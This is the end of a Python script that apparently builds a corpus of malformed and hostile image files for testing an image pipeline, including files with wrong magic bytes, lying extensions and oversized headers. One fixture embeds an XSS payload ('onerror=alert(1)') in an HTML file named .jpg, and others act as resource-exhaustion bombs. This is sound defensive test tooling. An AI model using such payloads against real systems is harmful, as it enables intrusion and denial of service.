    w("wrongmagic-matlab-header.jpg", mat, "wrong-magic", "mat")
    fits = b"".join(c.ljust(80).encode() for c in (
        "SIMPLE  =                    T", "BITPIX  =                    8",
        "NAXIS   =                    2", "NAXIS1  =               100000",
        "NAXIS2  =               100000", "END"))
    w("wrongmagic-fits-header-huge.jpg", fits.ljust(2880, b" "),
      "wrong-magic", "fits")
    w("wrongmagic-vips-magic-only.jpg", b"\x08\xf2\xa6\xb6" + bytes(60),
      "wrong-magic", "vips")
    w("wrongmagic-matrix.jpg", b"3 2\n1 2 3\n4 5 6\n", "wrong-magic",
      "matrix")
    w("wrongmagic-csv.jpg", b"1,2,3\n4,5,6\n", "wrong-magic", "csv")
    w("wrongmagic-text.jpg", b"This is not an image.\n" * 4, "wrong-magic",
      "text")
    w("wrongmagic-html.jpg",
      b"<!DOCTYPE html>\n<html><head><title>404</title></head>"
      b"<body><h1>Not Found</h1><img src=x onerror=alert(1)></body></html>\n",
      "wrong-magic", "html")
    w("wrongmagic-empty.jpg", b"", "wrong-magic", "empty")
    w("wrongmagic-zeros-4k.jpg", bytes(4096), "wrong-magic", "zeros")
    # Valid images whose extension lies.
    by_name = {s[0]: s for s in seeds}
    for seed, ext in (("jpeg", "png"), ("png8", "gif"), ("webp-lossy", "jpg"),
                      ("svg", "png"), ("gif-animated", "webp")):
        if seed in by_name:
            _, fmt, _, data = by_name[seed]
            w(f"wrongext-{seed}.{ext}", data, "wrong-magic", fmt)


# --------------------------------------------------------------------------


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("outdir")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--per-format", type=int, default=6, metavar="K",
                    help="truncations and bit-flip variants per seed (6)")
    ap.add_argument("--only", choices=["bombs"], help="write the bombs alone (no vips needed)")
    args = ap.parse_args()
    if args.only == "bombs":
        os.makedirs(args.outdir, exist_ok=True)
        make_bombs(Emitter(args.outdir))
        return
    if shutil.which("vips") is None:
        sys.exit("hostile_images.py: the `vips` CLI (libvips-tools) is needed")
    os.makedirs(args.outdir, exist_ok=True)
    em = Emitter(args.outdir)
    rng = random.Random(args.seed)
    with tempfile.TemporaryDirectory(prefix="hostile-images-") as tmp:
        seeds = make_seeds(em, rng, tmp)
        make_mutations(em, rng, seeds, max(0, args.per_format))
        make_bombs(em)
        make_svgs(em)
        make_wrong_magic(em, tmp, seeds)


if __name__ == "__main__":
    main()
